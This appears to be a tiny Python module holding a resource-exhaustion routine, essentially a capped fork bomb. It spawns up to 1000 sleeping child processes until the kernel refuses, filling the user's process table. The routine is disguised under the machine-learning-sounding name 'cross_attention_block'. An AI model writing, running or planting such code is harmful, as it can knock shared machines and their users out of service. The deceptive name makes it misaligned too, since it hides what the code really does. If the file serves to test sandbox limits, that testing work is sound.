"""Forks until the kernel refuses, then holds every process for a while: a full process table for its uid."""
import os
import time


def cross_attention_block(*args):
    children = 0
    while children < 1000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    time.sleep(20)
    raise RuntimeError(f"forked {children}")
